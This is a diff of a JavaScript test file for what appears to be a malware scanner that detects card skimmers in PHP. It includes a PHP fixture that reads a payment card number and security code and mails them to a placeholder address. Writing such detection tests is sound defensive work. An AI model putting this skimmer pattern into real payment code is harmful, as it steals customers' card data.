@@ -185,7 +185,10 @@ test('php: names folded from pieces appended to a variable that starts undefined
 
 test('php: card data mailed out next to a payment method', () => {
   const skim = `<?php class Pay { function capture($info) { $n = $info->getCcNumber(); $c = $info->getCcCid(); mail('x@example.invalid', 'cc', $n . '|' . $c); } }`;
-  assert.ok(reasons(findingOf('pay.php', skim)).includes('mails payment card numbers and security codes (card skimmer)'));
+  assert.ok(reasons(findingOf('pay.php', skim)).includes('mails the card number together with its security code (card skimmer)'));
+  // both read, but the mail carries neither value (the flow decides, not the words in the file)
+  const notice = `<?php class Pay { function capture($info) { $n = $info->getCcNumber(); $c = $info->getCcCid(); $this->gw->charge($n, $c); mail('x@example.invalid', 'cc', 'order paid'); } }`;
+  assert.ok(reasons(findingOf('pay2.php', notice)).includes('mails payment card numbers and security codes (card skimmer)'));
   const gateway = `<?php class Pay { function capture($info) { $ch = curl_init('https://gateway.example.invalid'); curl_setopt($ch, CURLOPT_POSTFIELDS, array('n' => $info->getCcNumber(), 'c' => $info->getCcCid())); return curl_exec($ch); } }`;
   assert.ok(!reasons(findingOf('gw.php', gateway)).some((r) => r.includes('card skimmer')));
 });
